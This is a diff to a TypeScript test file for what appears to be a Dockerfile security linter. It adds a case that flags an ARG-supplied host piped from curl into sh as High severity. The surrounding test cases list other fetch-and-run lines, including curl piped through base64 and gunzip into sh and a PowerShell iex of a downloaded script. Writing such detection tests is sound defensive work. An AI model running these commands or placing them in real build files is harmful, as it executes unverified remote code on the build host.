@@ -62,6 +62,7 @@ const cases: Record<string, { catches: [string, Severity?][]; catchesNot: string
       [`RUN curl ${far} | base64 -d | gunzip | sh`, 'High'],
       [`RUN curl ${far} -o /x; echo "$(sha256sum /x)"; sh /x`, 'Low'],
       ['RUN curl -s "$WHERE" | sh', 'Medium'],
+      ['ARG P\nRUN curl http://$P/x | sh', 'High'],
       ['RUN wget http://example.org/a.tgz && tar xf a.tgz && cd a && ./configure', 'Low'],
       ['SHELL ["powershell", "-Command"]\nRUN iex (iwr http://203.0.113.9/x)', 'High'],
     ],
